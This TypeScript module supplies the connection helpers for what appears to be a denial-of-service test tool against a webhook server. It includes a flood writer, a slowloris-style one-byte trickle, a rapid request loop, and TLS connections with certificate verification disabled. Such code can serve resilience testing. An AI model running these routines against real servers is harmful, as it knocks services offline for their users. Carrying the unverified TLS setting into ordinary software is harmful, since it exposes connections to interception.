import { connect as connectPlain, type Socket } from 'node:net';
import { connect as connectTls, createSecureContext } from 'node:tls';
import type { Target } from './attack.ts';

/**
 * One for all connections: Node makes one for each otherwise, which costs more than the handshake.
 */
const secureContext = createSecureContext();

/** Opens a TLS connection to the webhook's port, without verifying its certificate. */
export function openTls({ host, port }: Target): Socket {
  return connectTls({ host, port, secureContext, rejectUnauthorized: false });
}

/** Opens a TCP connection to the webhook's port, on which nobody begins with TLS. */
export function openPlain({ host, port }: Target): Socket {
  return connectPlain({ host, port });
}

/** Opens a connection to the health port, which speaks HTTP. */
export function openHealth({ host, healthPort }: Target): Socket {
  return connectPlain({ host, port: healthPort });
}

/** Returns the name of the event after which a socket can be written to. */
export function readyEvent(socket: Socket): string {
  return 'encrypted' in socket ? 'secureConnect' : 'connect';
}

/** Counts the answers that begin in a chunk, by their status. */
export function countAnswers(chunk: Buffer, answers: Record<string, number>): void {
  for (const [, status = ''] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
    answers[status] = (answers[status] ?? 0) + 1;
  }
}

/** Writes the same again and again, as fast as the server takes it. */
export function writeForever(socket: Socket, chunk: Buffer): void {
  const write = () => {
    while (!socket.destroyed && socket.write(chunk));
  };
  socket.on('drain', write);
  write();
}

/** Sends a byte each second. */
export function trickle(socket: Socket): void {
  const timer = setInterval(() => socket.write('x'), 1_000);
  socket.once('close', () => clearInterval(timer));
}

/** Sends a request whenever the one before has been answered. */
export function askAgain(socket: Socket, request: Buffer): void {
  socket.on('data', (chunk: Buffer) => {
    if (chunk.includes('HTTP/1.1 ')) socket.write(request);
  });
  socket.write(request);
}
